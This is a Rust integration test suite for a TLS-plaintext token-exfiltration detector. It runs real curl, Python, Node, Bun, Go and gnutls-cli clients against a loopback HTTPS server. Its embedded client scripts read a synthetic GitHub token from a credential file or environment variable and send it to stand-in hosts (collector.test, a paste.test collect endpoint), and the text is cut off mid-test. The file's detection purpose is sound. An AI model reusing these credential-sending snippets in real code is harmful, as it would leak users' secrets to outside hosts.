//! TLS plaintext end to end, through the real `sensor run` binary and real TLS clients:
//! curl and Python (system libssl), Node (OpenSSL inside `node`), Bun of two releases
//! (stripped static BoringSSL, found by signature), Go built here (crypto/tls through the
//! pclntab, also `-s -w` stripped) and gnutls-cli (libgnutls), each talking to a local
//! HTTPS server with its own CA on loopback. Each test asserts the finding's TLS sink
//! (plaintext, SNI or HTTP/2 `:authority` name, library function), where the token was
//! learned, and that the token never appears in the sensor's output.
//!
//! A watched client is started through a copy of `env` with a watched name; clients whose
//! TLS stack lives in their own binary wait on stdin until the sensor reports that stack
//! hooked (attaching takes a moment after exec; system libraries are hooked before the
//! sensor reports ready).

use std::io::{BufRead, Write};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use sensor_tests::*;
use serde_json::Value;

/// Checksum-valid synthetic GitHub tokens.
const GH: &str = "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";
/// What the test server hands out at `GET /token`.
const RECEIVED: &str = "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";
const KEY: &str = "0123456789abcdef0123456789abcdef";

fn run_ok(cmd: &mut Command) {
    let out = cmd.output().unwrap_or_else(|e| panic!("{cmd:?}: {e}"));
    assert!(
        out.status.success(),
        "{cmd:?} failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// A CA and a server certificate for collector.test, api.github.com and 127.0.0.1, made
/// with the openssl CLI.
struct Pki {
    ca: PathBuf,
    cert: PathBuf,
    key: PathBuf,
}

fn pki(dir: &Path) -> Pki {
    let p = |n: &str| dir.join(n);
    run_ok(
        Command::new("openssl")
            .args([
                "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2",
            ])
            .args([
                "-subj",
                "/CN=sensor test CA",
                "-addext",
                "basicConstraints=critical,CA:TRUE",
            ])
            .args(["-addext", "keyUsage=critical,keyCertSign"])
            .arg("-keyout")
            .arg(p("ca.key"))
            .arg("-out")
            .arg(p("ca.pem")),
    );
    run_ok(
        Command::new("openssl")
            .args([
                "req",
                "-newkey",
                "rsa:2048",
                "-nodes",
                "-subj",
                "/CN=collector.test",
            ])
            .arg("-keyout")
            .arg(p("srv.key"))
            .arg("-out")
            .arg(p("srv.csr")),
    );
    std::fs::write(
        p("ext.cnf"),
        "subjectAltName=DNS:collector.test,DNS:api.github.com,IP:127.0.0.1\n\
         basicConstraints=CA:FALSE\nextendedKeyUsage=serverAuth\n",
    )
    .unwrap();
    run_ok(
        Command::new("openssl")
            .args(["x509", "-req", "-days", "2", "-CAcreateserial"])
            .arg("-in")
            .arg(p("srv.csr"))
            .arg("-CA")
            .arg(p("ca.pem"))
            .arg("-CAkey")
            .arg(p("ca.key"))
            .arg("-extfile")
            .arg(p("ext.cnf"))
            .arg("-out")
            .arg(p("srv.pem")),
    );
    Pki {
        ca: p("ca.pem"),
        cert: p("srv.pem"),
        key: p("srv.key"),
    }
}

/// The test HTTPS server: HTTP/1.1 (`GET /token` answers a token, anything else `ok`), or
/// in `h2` mode an HTTP/2-only endpoint that takes the client's first flight and closes.
const SERVER_PY: &str = r#"
import json, socket, ssl, sys, threading
mode, cert, key, token = sys.argv[1:5]
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(cert, key)
if mode == "h2":
    ctx.set_alpn_protocols(["h2"])
srv = socket.socket()
srv.bind(("127.0.0.1", 0))
srv.listen(64)
print(srv.getsockname()[1], flush=True)

def handle(c):
    try:
        c.settimeout(10)
        s = ctx.wrap_socket(c, server_side=True)
        data = b""
        if mode == "h2":
            s.settimeout(2)
            try:
                while len(data) < 65536:
                    d = s.recv(65536)
                    if not d:
                        break
                    data += d
            except Exception:
                pass
            s.close()
            return
        while b"\r\n\r\n" not in data:
            d = s.recv(65536)
            if not d:
                break
            data += d
        body = json.dumps({"token": token}).encode() if data.startswith(b"GET /token") else b"ok"
        s.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: "
                  + str(len(body)).encode() + b"\r\nConnection: close\r\n\r\n" + body)
        # A clean TLS close (close_notify both ways) so no client sees a reset before
        # it read the answer.
        try:
            s.settimeout(5)
            s.unwrap().close()
        except Exception:
            s.close()
    except Exception as e:
        print("server:", e, file=sys.stderr, flush=True)

while True:
    c, _ = srv.accept()
    threading.Thread(target=handle, args=(c,), daemon=True).start()
"#;

struct Server {
    child: Child,
    port: u16,
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn server(dir: &Path, pki: &Pki, mode: &str) -> Server {
    let script = dir.join("server.py");
    std::fs::write(&script, SERVER_PY).unwrap();
    let mut child = Command::new("/usr/bin/python3")
        .arg(&script)
        .arg(mode)
        .arg(&pki.cert)
        .arg(&pki.key)
        .arg(RECEIVED)
        .stdout(Stdio::piped())
        .stderr(Stdio::inherit())
        .spawn()
        .expect("python3 (cargo xtask test installs it)");
    let mut line = String::new();
    std::io::BufReader::new(child.stdout.take().unwrap())
        .read_line(&mut line)
        .unwrap();
    let port = line.trim().parse().expect("server port");
    Server { child, port }
}

/// The real `sensor run`, its stdout and stderr collected line by line.
struct SensorCli {
    child: Child,
    out: Arc<Mutex<Vec<String>>>,
    err: Arc<Mutex<Vec<String>>>,
    readers: Vec<std::thread::JoinHandle<()>>,
}

fn collect(
    r: impl std::io::Read + Send + 'static,
) -> (Arc<Mutex<Vec<String>>>, std::thread::JoinHandle<()>) {
    let lines = Arc::new(Mutex::new(Vec::new()));
    let l2 = lines.clone();
    let h = std::thread::spawn(move || {
        for line in std::io::BufReader::new(r).lines() {
            let Ok(line) = line else { break };
            l2.lock().unwrap().push(line);
        }
    });
    (lines, h)
}

impl SensorCli {
    fn start(dir: &Path, watch_exe: &str) -> SensorCli {
        Self::start_with(dir, watch_exe, "")
    }

    /// Starts the sensor with `extra` YAML added to its configuration.
    fn start_with(dir: &Path, watch_exe: &str, extra: &str) -> SensorCli {
        let cfg = dir.join("sensor.yaml");
        std::fs::write(&cfg, format!("fingerprint_key: \"{KEY}\"\n{extra}")).unwrap();
        let mut child = Command::new(sensor_bin())
            .args(["run", "--only-flag-scopes", "--print-events", "--config"])
            .arg(&cfg)
            .args(["--watch-exe", watch_exe])
            .arg("--state-dir")
            .arg(own_state_dir())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let (out, h1) = collect(child.stdout.take().unwrap());
        let (err, h2) = collect(child.stderr.take().unwrap());
        let s = SensorCli {
            child,
            out,
            err,
            readers: vec![h1, h2],
        };
        let ready = s.wait(Duration::from_secs(120), |_, err| {
            err.iter().any(|l| l.contains("sensor ready"))
        });
        assert!(
            ready,
            "sensor never became ready:\n{}",
            s.err.lock().unwrap().join("\n")
        );
        s
    }

    fn wait(&self, timeout: Duration, done: impl Fn(&[String], &[String]) -> bool) -> bool {
        let deadline = Instant::now() + timeout;
        while Instant::now() < deadline {
            if done(&self.out.lock().unwrap(), &self.err.lock().unwrap()) {
                return true;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        false
    }

    fn json(&self) -> Vec<Value> {
        self.out
            .lock()
            .unwrap()
            .iter()
            .filter_map(|l| serde_json::from_str(l).ok())
            .collect()
    }

    /// Waits until the sensor reports a hooked TLS stack for `pid`.
    fn wait_hooked(&self, pid: u32) {
        let hooked = |v: &Value| {
            v["event"] == "tls_coverage"
                && v["process"]["pid"] == pid
                && v["objects"]
                    .as_array()
                    .is_some_and(|o| o.iter().any(|x| x["hooked"] == true))
        };
        let ok = self.wait(Duration::from_secs(60), |out, _| {
            out.iter()
                .filter_map(|l| serde_json::from_str::<Value>(l).ok())
                .any(|v| hooked(&v))
        });
        assert!(
            ok,
            "no hooked TLS stack reported for pid {pid}:\n{}\n{}",
            self.out.lock().unwrap().join("\n"),
            self.err.lock().unwrap().join("\n")
        );
    }

    /// Waits for a finding about `token` (by keyed fingerprint).
    fn wait_finding(&self, token: &str) -> Option<Value> {
        self.wait_finding_where(token, |_| true)
    }

    /// Waits for a finding about `token` that also satisfies `pred`.
    fn wait_finding_where(&self, token: &str, pred: impl Fn(&Value) -> bool) -> Option<Value> {
        let fp = sensor::redact::Fingerprinter::from_hex(KEY)
            .unwrap()
            .fingerprint(token.as_bytes());
        let is = |v: &Value| {
            v["type"] == "finding" && v["finding"]["fingerprint"] == fp.as_str() && pred(v)
        };
        self.wait(Duration::from_secs(60), |out, _| {
            out.iter()
                .filter_map(|l| serde_json::from_str::<Value>(l).ok())
                .any(|v| is(&v))
        });
        self.json().into_iter().find(is)
    }

    /// Stops the sensor; returns (stdout, stderr).
    fn stop(mut self) -> (String, String) {
        unsafe { libc::kill(self.child.id() as i32, libc::SIGTERM) };
        let st = self.child.wait().unwrap();
        for h in self.readers.drain(..) {
            let _ = h.join();
        }
        let out = self.out.lock().unwrap().join("\n");
        let err = self.err.lock().unwrap().join("\n");
        assert!(st.success(), "sensor exit {st}:\n{err}");
        (out, err)
    }
}

impl Drop for SensorCli {
    /// A test that fails before `stop` must not leave the sensor (and its uprobes on the
    /// system libraries) running.
    fn drop(&mut self) {
        if let Ok(None) = self.child.try_wait() {
            unsafe { libc::kill(self.child.id() as i32, libc::SIGTERM) };
            let _ = self.child.wait();
        }
    }
}

/// A copy of `env` named `name` in `dir`: exec'ing it puts the process in scope (by exe
/// name), then it execs the real client in the same process.
fn launcher(dir: &Path, name: &str) -> PathBuf {
    let p = dir.join(name);
    std::fs::copy("/usr/bin/env", &p).unwrap();
    p
}

/// Starts `launcher program args…` with stdin piped (the client waits for a line).
fn spawn_client(launcher: &Path, env: &[(&str, &str)], program: &str, args: &[&str]) -> Child {
    Command::new(launcher)
        .arg(program)
        .args(args)
        .envs(env.iter().copied())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::inherit())
        .spawn()
        .unwrap()
}

/// Sends the client its go-ahead line(s) and waits for it; returns its stdout.
fn release_and_wait(mut c: Child, input: &str) -> String {
    {
        let mut stdin = c.stdin.take().unwrap();
        stdin.write_all(input.as_bytes()).unwrap();
    }
    let out = c.wait_with_output().unwrap();
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn assert_no_raw_tokens(out: &str, err: &str) {
    for t in [GH, RECEIVED] {
        assert!(
            !out.contains(&t[4..]) && !err.contains(&t[4..]),
            "a raw token appeared in the sensor's output"
        );
    }
}

/// A gh CLI credential file (`hosts.yml`, a watched credential basename) holding `GH`.
fn credential_file(dir: &Path) -> PathBuf {
    let d = dir.join("gh");
    std::fs::create_dir_all(&d).unwrap();
    let f = d.join("hosts.yml");
    std::fs::write(
        &f,
        format!("github.com:\n    oauth_token: {GH}\n    user: agent\n"),
    )
    .unwrap();
    f
}

/// The finding's TLS sink and source for a token read from the credential file.
fn assert_file_token_over_tls(a: &Value, pid: u32, function: &str) {
    assert_eq!(a["verdict"], "exfiltration", "{a}");
    assert_eq!(a["process"]["pid"], pid, "{a}");
    assert_eq!(a["sink"]["tls"], "plaintext", "{a}");
    assert_eq!(a["sink"]["host"], "collector.test", "{a}");
    assert_eq!(a["sink"]["host_source"], "sni", "{a}");
    assert_eq!(a["sink"]["syscall"], function, "{a}");
    assert_eq!(a["sink"]["kind"], "network", "{a}");
    assert_eq!(a["chain"]["source"]["kind"], "file", "{a}");
    let path = a["chain"]["source"]["path"].as_str().unwrap_or("");
    assert!(path.ends_with("gh/hosts.yml"), "{a}");
    assert_eq!(a["finding"]["validation"], "learned", "{a}");
}

#[test]
fn curl_token_found_in_tls_plaintext_with_sni_and_allowed_at_its_issuer() {
    let dir = temp_dir("tls-curl");
    let pki = pki(&dir);
    let srv = server(&dir, &pki, "http1");
    let agent = launcher(&dir, "tlsagent-curl");
    let cli = SensorCli::start(&dir, "tlsagent-curl");
    let port = srv.port;
    let curl = |host: &str| {
        let resolve = format!("{host}:{port}:127.0.0.1");
        let url = format!("https://{host}:{port}/user");
        let ca = pki.ca.to_string_lossy().into_owned();
        // The header comes from stdin (-H @-): curl blocks there until released.
        spawn_client(
            &agent,
            &[("GITHUB_TOKEN", GH)],
            "curl",
            &[
                "-sS",
                "--http1.1",
                "--cacert",
                &ca,
                "--resolve",
                &resolve,
                "-H",
                "@-",
                &url,
            ],
        )
    };
    let c = curl("collector.test");
    let pid = c.id();
    cli.wait_hooked(pid);
    let body = release_and_wait(c, &format!("Authorization: token {GH}\n"));
    assert_eq!(body, "ok");
    let a = cli
        .wait_finding(GH)
        .unwrap_or_else(|| panic!("no finding:\n{}", cli.out.lock().unwrap().join("\n")));
    assert_eq!(a["process"]["pid"], pid, "{a}");
    assert_eq!(a["sink"]["tls"], "plaintext", "{a}");
    assert_eq!(a["sink"]["syscall"], "SSL_write", "{a}");
    assert_eq!(a["sink"]["host"], "collector.test", "{a}");
    assert_eq!(a["sink"]["host_source"], "sni", "{a}");
    assert_eq!(
        a["sink"]["endpoint"]["addr"],
        format!("127.0.0.1:{port}"),
        "{a}"
    );
    assert_eq!(a["chain"]["source"]["kind"], "env", "{a}");
    assert_eq!(a["chain"]["source"]["var"], "GITHUB_TOKEN", "{a}");

    // The same request to the token's issuer: used within its boundary, not alerted.
    let c = curl("api.github.com");
    let pid2 = c.id();
    cli.wait_hooked(pid2);
    let body = release_and_wait(c, &format!("Authorization: token {GH}\n"));
    assert_eq!(body, "ok");
    // The plaintext write to the issuer was seen (so its silence is a verdict).
    let seen = cli.wait(Duration::from_secs(30), |out, _| {
        out.iter()
            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
            .any(|v| v["event"] == "write" && v["process"]["pid"] == pid2 && v["tls"] == "openssl")
    });
    assert!(seen, "no TLS plaintext write event for the issuer request");
    let (out, err) = cli.stop();
    let findings: Vec<Value> = out
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter(|v| v["type"] == "finding" && v["process"]["pid"] == pid2)
        .collect();
    assert!(findings.is_empty(), "alert at the issuer: {findings:?}");
    let stats: Value = err
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .find(|v| v["type"] == "stats")
        .expect("stats line");
    assert!(
        stats["verdicts"]["allowed_issuer"].as_u64().unwrap_or(0) >= 1,
        "{stats}"
    );
    assert_no_raw_tokens(&out, &err);
}

#[test]
fn curl_http2_names_the_destination_from_hpack_authority() {
    let dir = temp_dir("tls-h2");
    let pki = pki(&dir);
    let srv = server(&dir, &pki, "h2");
    let agent = launcher(&dir, "tlsagent-h2");
    let cli = SensorCli::start(&dir, "tlsagent-h2");
    // An IP URL sends no SNI: the name can only come from the HTTP/2 request, where curl
    // turns the Host header into `:authority` and HPACK-codes the headers.
    let url = format!("https://127.0.0.1:{}/h2", srv.port);
    let ca = pki.ca.to_string_lossy().into_owned();
    let c = spawn_client(
        &agent,
        &[("GITHUB_TOKEN", GH)],
        "curl",
        &["-s", "--http2", "--cacert", &ca, "-H", "@-", &url],
    );
    let pid = c.id();
    cli.wait_hooked(pid);
    // The server closes after the first flight: curl's exit status is not the point.
    release_and_wait(
        c,
        &format!("Host: collector.test\nAuthorization: token {GH}\n"),
    );
    let a = cli
        .wait_finding(GH)
        .unwrap_or_else(|| panic!("no finding:\n{}", cli.out.lock().unwrap().join("\n")));
    assert_eq!(a["process"]["pid"], pid, "{a}");
    assert_eq!(a["sink"]["tls"], "plaintext", "{a}");
    assert_eq!(a["sink"]["host"], "collector.test", "{a}");
    assert_eq!(a["sink"]["host_source"], "h2", "{a}");
    let (out, err) = cli.stop();
    assert_no_raw_tokens(&out, &err);
}

const CLIENT_PY: &str = r#"
import json, socket, ssl, sys
cred, port, ca, mode = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
tok = [l.split(":", 1)[1].strip() for l in open(cred) if "oauth_token" in l][0]
ctx = ssl.create_default_context(cafile=ca)
sys.stdin.readline()
def get(path, auth):
    s = ctx.wrap_socket(socket.create_connection(("127.0.0.1", port)), server_hostname="collector.test")
    s.sendall(("GET %s HTTP/1.1\r\nHost: collector.test\r\nAuthorization: token %s\r\n\r\n" % (path, auth)).encode())
    data = b""
    while True:
        d = s.recv(65536)
        if not d:
            break
        data += d
    return data.split(b"\r\n\r\n", 1)[1]
if mode == "send":
    print(get("/x", tok).decode())
else:
    minted = json.loads(get("/token", "none"))["token"]
    host, p = sys.argv[5].rsplit(":", 1)
    t = socket.create_connection((host, int(p)))
    t.sendall(("POST /collect HTTP/1.1\r\nHost: paste.test\r\nContent-Length: %d\r\n\r\n%s" % (len(minted), minted)).encode())
    t.close()
    print("sent")
"#;

#[test]
fn python_ssl_sends_a_credential_file_token() {
    let dir = temp_dir("tls-py");
    let pki = pki(&dir);
    let srv = server(&dir, &pki, "http1");
    let cred = credential_file(&dir);
    let script = dir.join("client.py");
    std::fs::write(&script, CLIENT_PY).unwrap();
    let agent = launcher(&dir, "tlsagent-py");
    let cli = SensorCli::start(&dir, "tlsagent-py");
    let port = srv.port.to_string();
    let c = spawn_client(
        &agent,
        &[],
        "/usr/bin/python3",
        &[
            script.to_str().unwrap(),
            cred.to_str().unwrap(),
            &port,
            pki.ca.to_str().unwrap(),
            "send",
        ],
    );
    let pid = c.id();
    cli.wait_hooked(pid);
    assert_eq!(release_and_wait(c, "go\n").trim(), "ok");
    let a = cli.wait_finding(GH).expect("finding");
    assert_file_token_over_tls(&a, pid, "SSL_write");
    let (out, err) = cli.stop();
    assert_no_raw_tokens(&out, &err);
}

#[test]
fn token_received_over_tls_then_sent_to_a_foreign_host_names_where_it_came_from() {
    let dir = temp_dir("tls-recv");
    let pki = pki(&dir);
    let srv = server(&dir, &pki, "http1");
    let cred = credential_file(&dir);
    let sink = TcpSink::start();
    let script = dir.join("client.py");
    std::fs::write(&script, CLIENT_PY).unwrap();
    let agent = launcher(&dir, "tlsagent-recv");
    let cli = SensorCli::start(&dir, "tlsagent-recv");
    let port = srv.port.to_string();
    let to = sink.addr.to_string();
    let c = spawn_client(
        &agent,
        &[],
        "/usr/bin/python3",
        &[
            script.to_str().unwrap(),
            cred.to_str().unwrap(),
            &port,
            pki.ca.to_str().unwrap(),
            "receive",
            &to,
        ],
    );
    let pid = c.id();
    cli.wait_hooked(pid);
    assert_eq!(release_and_wait(c, "go\n").trim(), "sent");
    let a = cli
        .wait_finding(RECEIVED)
        .expect("finding for the received token");
    assert_eq!(a["process"]["pid"], pid, "{a}");
    assert_eq!(a["verdict"], "exfiltration", "{a}");
    assert_eq!(a["sink"]["endpoint"]["addr"], to, "{a}");
    assert!(a["sink"]["tls"].is_null(), "plain TCP: {a}");
    assert_eq!(a["chain"]["source"]["kind"], "tls_received", "{a}");
    assert_eq!(a["chain"]["source"]["host"], "collector.test", "{a}");
    assert_eq!(a["finding"]["validation"], "learned", "{a}");
    let (out, err) = cli.stop();
    assert_no_raw_tokens(&out, &err);
}

const CLIENT_JS: &str = r#"
const fs = require("fs"), https = require("https");
const [cred, port, ca] = process.argv.slice(2);
const tok = fs.readFileSync(cred, "utf8").split("\n").find(l => l.includes("oauth_token")).split(":")[1].trim();
process.stdin.once("data", () => {
  process.stdin.destroy();
  const req = https.request({ host: "127.0.0.1", servername: "collector.test", port: +port, path: "/x",
    headers: { Authorization: "token " + tok, Host: "collector.test" }, ca: fs.readFileSync(ca) }, res => {
    let b = ""; res.on("data", d => b += d); res.on("end", () => console.log(b));
  });
  req.end();
});
"#;

#[test]
fn node_https_sends_a_credential_file_token() {
    let dir = temp_dir("tls-node");
    let pki = pki(&dir);
    let srv = server(&dir, &pki, "http1");
    let cred = credential_file(&dir);
    let script = dir.join("client.js");
    std::fs::write(&script, CLIENT_JS).unwrap();
    let agent = launcher(&dir, "tlsagent-node");
    let cli = SensorCli::start(&dir, "tlsagent-node");
    let port = srv.port.to_string();
    let c = spawn_client(
        &agent,
        &[],
        "/usr/bin/node",
        &[
            script.to_str().unwrap(),
            cred.to_str().unwrap(),
            &port,
            pki.ca.to_str().unwrap(),
        ],
    );
    let pid = c.id();
    cli.wait_hooked(pid);
    assert_eq!(release_and_wait(c, "go\n").trim(), "ok");
    let a = cli.wait_finding(GH).expect("finding");
    assert_file_token_over_tls(&a, pid, "SSL_write");
    let (out, err) = cli.stop();
    assert_no_raw_tokens(&out, &err);
}

const CLIENT_MJS: &str = r#"
import { readFileSync } from "fs";
const [cred, port, ca] = process.argv.slice(2);
const tok = readFileSync(cred, "utf8").split("\n").find(l => l.includes("oauth_token")).split(":")[1].trim();
await new Promise(r => process.stdin.once("data", r));
process.stdin.pause();
const res = await fetch(`https://127.0.0.1:${port}/x`, {
  headers: { Authorization: "token " + tok, Host: "collector.test" },
  tls: { ca: readFileSync(ca, "utf8"), serverName: "collector.test" },
});
console.log(await res.text());
process.exit(0);
"#;

/// The Bun binaries `cargo xtask test` installed from the npm registry.
fn bun_binaries() -> Vec<PathBuf> {
    let from_env: Vec<PathBuf> = std::env::var_os("SENSOR_TEST_BUNS")
        .map(|v| std::env::split_paths(&v).collect())
        .unwrap_or_default();
    let bins = if from_env.is_empty() {
        let home = std::env::var_os("HOME")
            .map(PathBuf::from)
            .unwrap_or_default();
        ["1.2.0", "1.4.5"]
            .iter()
            .map(|v| {
                home.join(".cache/token-sensor/bun")
                    .join(v)
                    .join("node_modules/@oven/bun-linux-x64/bin/bun")
            })
            .collect()
    } else {
        from_env
    };
    for b in &bins {
        assert!(
            b.is_file(),
            "{} missing: `cargo xtask test` installs the Bun releases",
            b.display()
        );
    }
    assert!(bins.len() >= 2, "two Bun releases expected");
    bins
}

#[test]
fn bun_fetch_of_two_releases_hooked_by_boringssl_signature() {
    for (i, bun) in bun_binaries().iter().enumerate() {
        let dir = temp_dir(&format!("tls-bun{i}"));
        let pki = pki(&dir);
        let srv = server(&dir, &pki, "http1");
        let cred = credential_file(&dir);
        let script = dir.join("client.mjs");
        std::fs::write(&script, CLIENT_MJS).unwrap();
        let name = format!("tlsagent-bun{i}");
        let agent = launcher(&dir, &name);
        let cli = SensorCli::start(&dir, &name);
        let port = srv.port.to_string();
        let c = spawn_client(
            &agent,
            &[],
            bun.to_str().unwrap(),
            &[
                script.to_str().unwrap(),
                cred.to_str().unwrap(),
                &port,
                pki.ca.to_str().unwrap(),
            ],
        );
        let pid = c.id();
        cli.wait_hooked(pid);
        // (The launcher's own exec is reported too, with no TLS stack.)
        let covs: Vec<Value> = cli
            .json()
            .into_iter()
            .filter(|v| v["event"] == "tls_coverage" && v["process"]["pid"] == pid)
            .collect();
        assert!(
            covs.iter()
                .any(|c| c["objects"].as_array().is_some_and(|o| o
                    .iter()
                    .any(|o| o["stack"] == "boringssl" && o["hooked"] == true))),
            "{}: {covs:?}",
            bun.display()
        );
        assert_eq!(
            release_and_wait(c, "go\n").trim(),
            "ok",
            "{}",
            bun.display()
        );
        let a = cli
            .wait_finding(GH)
            .unwrap_or_else(|| panic!("no finding with {}", bun.display()));
        assert_file_token_over_tls(&a, pid, "SSL_write");
        let (out, err) = cli.stop();
        assert_no_raw_tokens(&out, &err);
    }
}

const CLIENT_GO: &str = r#"package main

import (
	"bufio"
	"crypto/tls"
	"crypto/x509"
	"fmt"
	"io"
	"net/http"
	"os"
	"strings"
)

func main() {
	cred, port, ca := os.Args[1], os.Args[2], os.Args[3]
	tok := ""
	f, err := os.Open(cred)
	if err != nil {
		panic(err)
	}
	s := bufio.NewScanner(f)
	for s.Scan() {
		if i := strings.Index(s.Text(), "oauth_token:"); i >= 0 {
			tok = strings.TrimSpace(s.Text()[i+len("oauth_token:"):])
		}
	}
	pem, err := os.ReadFile(ca)
	if err != nil {
		panic(err)
	}
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(pem)
	bufio.NewReader(os.Stdin).ReadString('\n')
	c := &http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: pool, ServerName: "collector.test"}}}
	req, _ := http.NewRequest("GET", "https://127.0.0.1:"+port+"/x", nil)
	req.Host = "collector.test"
	req.Header.Set("Authorization", "token "+tok)
	resp, err := c.Do(req)
	if err != nil {
		panic(err)
	}
	b, _ := io.ReadAll(resp.Body)
	fmt.Println(string(b))
}
"#;

/// Builds the Go client with the Debian toolchain (`extra` linker flags, e.g. `-s -w`).
fn build_go(dir: &Path, name: &str, ldflags: &str) -> PathBuf {
    let src = dir.join("main.go");
    std::fs::write(&src, CLIENT_GO).unwrap();
    let out = dir.join(name);
    // A build cache next to the workspace's target dir survives between runs.
    let cache = workload_bin().parent().unwrap().join("go-build-cache");
    run_ok(
        Command::new("go")
            .args(["build", "-ldflags", ldflags, "-o"])
            .arg(&out)
            .arg(&src)
            .current_dir(dir)
            .env("GOCACHE", &cache)
            .env("GOPATH", dir.join("gopath"))
            .env("GO111MODULE", "off")
            .env("GOFLAGS", "")
            .env("CGO_ENABLED", "0"),
    );
    out
}

#[test]
fn go_crypto_tls_found_through_pclntab_also_when_stripped() {
    for (i, ldflags) in ["", "-s -w"].iter().enumerate() {
        let dir = temp_dir(&format!("tls-go{i}"));
        let pki = pki(&dir);
        let srv = server(&dir, &pki, "http1");
        let cred = credential_file(&dir);
        let bin = build_go(&dir, "goclient", ldflags);
        let name = format!("tlsagent-go{i}");
        let agent = launcher(&dir, &name);
        let cli = SensorCli::start(&dir, &name);
        let port = srv.port.to_string();
        let c = spawn_client(
            &agent,
            &[],
            bin.to_str().unwrap(),
            &[cred.to_str().unwrap(), &port, pki.ca.to_str().unwrap()],
        );
        let pid = c.id();
        cli.wait_hooked(pid);
        assert_eq!(
            release_and_wait(c, "go\n").trim(),
            "ok",
            "ldflags {ldflags:?}"
        );
        let a = cli
            .wait_finding(GH)
            .unwrap_or_else(|| panic!("no finding (ldflags {ldflags:?})"));
        assert_file_token_over_tls(&a, pid, "tls.(*Conn).Write");
        // The response came back through the RET-instruction probes of (*Conn).Read.
        let (out, err) = cli.stop();
        let read = out
            .lines()
            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
            .any(|v| v["event"] == "tls_read" && v["process"]["pid"] == pid && v["tls"] == "go");
        assert!(read, "no Go TLS read event (ldflags {ldflags:?})");
        assert_no_raw_tokens(&out, &err);
    }
}

#[test]
fn gnutls_cli_sends_a_credential_file_token() {
    let dir = temp_dir("tls-gnutls");
    let pki = pki(&dir);
    let srv = server(&dir, &pki, "http1");
    let cred = credential_file(&dir);
    let agent = launcher(&dir, "tlsagent-gnutls");
    let cli = SensorCli::start(&dir, "tlsagent-gnutls");
    // The watched shell reads the credential file, then pipes a request to gnutls-cli
    // (libgnutls: hooked when the sensor started).
    let script = format!(
        "tok=$(sed -n 's/.*oauth_token: //p' '{}'); read go; \
         printf 'GET /x HTTP/1.1\\r\\nHost: collector.test\\r\\nAuthorization: token %s\\r\\n\\r\\n' \"$tok\" | \
         gnutls-cli --logfile=/dev/null -p {} --x509cafile='{}' --sni-hostname=collector.test \
         --verify-hostname=collector.test 127.0.0.1 2>/dev/null",
        cred.display(),
        srv.port,
        pki.ca.display()
    );
    let c = spawn_client(&agent, &[], "bash", &["-c", &script]);
    let out = release_and_wait(c, "go\n");
    assert!(out.trim_end().ends_with("ok"), "{out}");
    // (The shell's pipe to gnutls-cli is judged by the monitor's own rules; the TLS
    // sink is the one this test is about.)
    let a = cli
        .wait_finding_where(GH, |v| v["sink"]["tls"] == "plaintext")
        .unwrap_or_else(|| panic!("no finding:\n{}", cli.out.lock().unwrap().join("\n")));
    assert_eq!(a["verdict"], "exfiltration", "{a}");
    assert!(
        a["process"]["exe"]
            .as_str()
            .unwrap_or("")
            .ends_with("gnutls-cli"),
        "{a}"
    );
    assert_eq!(a["sink"]["tls"], "plaintext", "{a}");
    assert_eq!(a["sink"]["syscall"], "gnutls_record_send", "{a}");
    assert_eq!(a["sink"]["host"], "collector.test", "{a}");
    assert_eq!(a["chain"]["source"]["kind"], "file", "{a}");
    let (out, err) = cli.stop();
    assert_no_raw_tokens(&out, &err);
}

#[test]
fn a_stripped_stack_without_a_signature_match_is_reported_opaque() {
    // A Bun binary whose BoringSSL error sites no longer name their file (the string's
    // terminator overwritten): the stack is still recognisable, its functions are not.
    let bun = &bun_binaries()[1];
    let dir = temp_dir("tls-opaque");
    let mut image = std::fs::read(bun).unwrap();
    let needle = b"ssl/ssl_lib.cc\0";
    let at = image
        .windows(needle.len())
        .position(|w| w == needle)
        .expect("BoringSSL file name in Bun");
    image[at + needle.len() - 1] = b'_';
    let patched = dir.join("bun-patched");
    std::fs::write(&patched, &image).unwrap();
    drop(image);
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&patched, std::fs::Permissions::from_mode(0o755)).unwrap();

    let pki = pki(&dir);
    let srv = server(&dir, &pki, "http1");
    let cred = credential_file(&dir);
    let script = dir.join("client.mjs");
    std::fs::write(&script, CLIENT_MJS).unwrap();
    let agent = launcher(&dir, "tlsagent-opaque");
    let cli = SensorCli::start(&dir, "tlsagent-opaque");
    let port = srv.port.to_string();
    let c = spawn_client(
        &agent,
        &[],
        patched.to_str().unwrap(),
        &[
            script.to_str().unwrap(),
            cred.to_str().unwrap(),
            &port,
            pki.ca.to_str().unwrap(),
        ],
    );
    let pid = c.id();
    let reported = cli.wait(Duration::from_secs(60), |out, _| {
        out.iter()
            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
            .any(|v| {
                v["event"] == "tls_coverage"
                    && v["process"]["pid"] == pid
                    && v["objects"].as_array().is_some_and(|o| {
                        o.iter().any(|x| {
                            x["hooked"] == false
                                && x["path"].as_str().unwrap_or("").ends_with("bun-patched")
                                && x["opaque"].to_string().contains("boringssl")
                        })
                    })
            })
    });
    assert!(reported, "{}", cli.out.lock().unwrap().join("\n"));
    assert_eq!(release_and_wait(c, "go\n").trim(), "ok");
    // The request went out (its ciphertext with the SNI), but no plaintext was seen.
    let sni_seen = cli.wait(Duration::from_secs(30), |out, _| {
        out.iter()
